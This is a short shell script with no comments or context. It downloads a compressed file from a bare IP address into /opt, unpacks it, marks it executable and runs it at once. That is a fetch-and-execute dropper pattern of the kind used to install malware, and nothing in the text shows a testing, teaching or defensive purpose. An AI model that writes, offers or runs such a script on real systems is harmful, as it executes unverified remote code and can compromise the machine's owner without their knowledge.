#!/bin/sh
wget -O /opt/a.gz http://192.0.2.5/a.gz
gunzip /opt/a.gz
chmod +x /opt/a
/opt/a
